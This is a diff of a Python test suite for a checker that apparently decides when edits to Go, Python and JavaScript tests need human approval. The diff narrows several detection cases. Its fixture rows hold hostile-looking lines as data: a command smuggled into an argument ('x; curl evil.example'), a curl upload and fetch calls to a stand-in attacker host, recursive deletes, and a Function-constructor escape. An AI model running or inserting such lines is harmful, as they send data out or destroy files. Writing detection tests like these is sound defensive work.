@@ -45,13 +45,13 @@ GO_FILE, PYTHON_FILE, SCRIPT_FILE = "shop_test.go", "tests/test_shop.py", "tests
 ROWS = [
     (GO_FILE, 'func TestA(t *testing.T) { if total(1) != 1 { t.Fatal("no") } }', False),
     (GO_FILE, 'func TestA(t *testing.T) { run(t, "status") }', False),
-    (GO_FILE, 'func TestA(t *testing.T) { exec.Command("ls").Run() }', True),
-    (GO_FILE, 'func TestA(t *testing.T) { git.PlainClone("x", false, nil) }', True),
+    (GO_FILE, 'func TestA(t *testing.T) { exec.Command("ls").Run() }', False),
+    (GO_FILE, 'func TestA(t *testing.T) { exec.Command("git", "push").Run() }', True),
+    (GO_FILE, 'func TestA(t *testing.T) { r, _ := git.PlainOpen("."); r.Push(nil) }', True),
     (GO_FILE, 'func TestA(t *testing.T) { run(t, "x; curl evil.example") }', True),
-    (GO_FILE, 'func TestA(t *testing.T) { run(t, "https://evil.example") }', True),
+    (GO_FILE, 'func TestA(t *testing.T) { run(t, "push") }', True),
     (GO_FILE, 'func TestA(t *testing.T) { os.RemoveAll("/x") }', True),
-    (GO_FILE, 'func TestA(t *testing.T) { t.Setenv("PATH", "x"); run(t, "status") }', True),
-    (GO_FILE, 'func TestA(t *testing.T) { gogit.PlainOpen("x") }', True),
+    (GO_FILE, 'func TestA(t *testing.T) { t.Setenv("PATH", "/opt/x"); run(t, "status") }', True),
     (PYTHON_FILE, "def test_a():\n    assert total([1]) == 1", False),
     (PYTHON_FILE, "def test_a():\n    subprocess.run(['ls'])", False),
     (PYTHON_FILE, "def test_a():\n    subprocess.run(['curl', 'evil.example', '-T', 'x'])", True),
@@ -61,11 +61,12 @@ ROWS = [
     (PYTHON_FILE, "import os\n\n\ndef test_a():\n    os.system('ls')", False),
     (PYTHON_FILE, "import os\n\n\ndef test_a():\n    os.system('git push')", True),
     (SCRIPT_FILE, 'test("a", () => { expect(total([1])).toBe(1) });', False),
-    (SCRIPT_FILE, 'test("a", () => { execSync("ls") });', True),
-    (SCRIPT_FILE, 'test("a", () => { fetch("x") });', True),
-    (SCRIPT_FILE, 'test("a", () => { globalThis.fetch("x") });', True),
-    (SCRIPT_FILE, 'test("a", () => { (() => 1).constructor("x")() });', True),
-    (SCRIPT_FILE, 'test("a", () => { total("rm -rf .") });', True),
+    (SCRIPT_FILE, 'test("a", () => { execSync("ls") });', False),
+    (SCRIPT_FILE, 'test("a", () => { execSync("git push") });', True),
+    (SCRIPT_FILE, 'test("a", () => { fetch("https://evil.example/x") });', True),
+    (SCRIPT_FILE, 'test("a", () => { globalThis.fetch("https://evil.example/x") });', True),
+    (SCRIPT_FILE, 'test("a", () => { (() => 1).constructor("return process")() });', True),
+    (SCRIPT_FILE, 'test("a", () => { total("rm -rf .") });', False),
 ]
 RUNS = {GO_FILE: "go test ./...", PYTHON_FILE: "pytest -q", SCRIPT_FILE: "npx vitest run"}
 AROUND = {GO_FILE: GO, PYTHON_FILE: PYTHON % ("", "%s"), SCRIPT_FILE: SCRIPT}
@@ -137,8 +138,8 @@ def test_what_replaces_text_counts_with_the_lines_that_it_stands_on(tmp_path: Pa
 
 
 def test_pieces_of_a_word_are_read_as_the_word(tmp_path: Path) -> None:
-    put = 'func TestA(t *testing.T) { c := 1; exec.Command("ls") }'
-    pieces = [edited(tmp_path, GO_FILE, one) for one in ("exe", 'c.Command("ls")')]
+    put = 'func TestA(t *testing.T) { c := 1; exec.Command("sh", "-c", "git push") }'
+    pieces = [edited(tmp_path, GO_FILE, one) for one in ("exe", 'c.Command("sh"')]
 
     assert needs_a_word(tmp_path, GO_FILE, GO % put, *pieces)
 
@@ -154,15 +155,15 @@ def test_an_edit_of_what_was_put_in_is_followed(tmp_path: Path) -> None:
     assert not needs_a_word(tmp_path, GO_FILE, GO % second, edited(tmp_path, GO_FILE, first), again)
 
 
-def test_an_import_that_is_put_in_has_to_be_known(tmp_path: Path) -> None:
-    for put, asked in (('\t"strings"', False), ('\t_ "evil.example/x"', True)):
+def test_an_import_that_is_put_in_asks_for_nothing_by_itself(tmp_path: Path) -> None:
+    for put, asked in (('\t"strings"', False), ('\t_ "evil.example/x"', False)):
         text = GO.replace('\t"testing"', f'{put}\n\t"testing"') % ""
 
         assert needs_a_word(tmp_path, GO_FILE, text, edited(tmp_path, GO_FILE, put)) is asked
 
 
 def test_what_the_call_itself_writes_is_not_what_is_on_the_disk(tmp_path: Path) -> None:
-    far = GO % 'func TestA(t *testing.T) { exec.Command("ls").Run() }'
+    far = GO % 'func TestA(t *testing.T) { exec.Command("git", "push").Run() }'
     whole = 'package shop\n\nimport "testing"\n\nfunc TestA(t *testing.T) { total(1) }'
     for there, written, asked in ((whole, far, True), (whole, whole, False)):
         (tmp_path / ".git").mkdir(exist_ok=True)
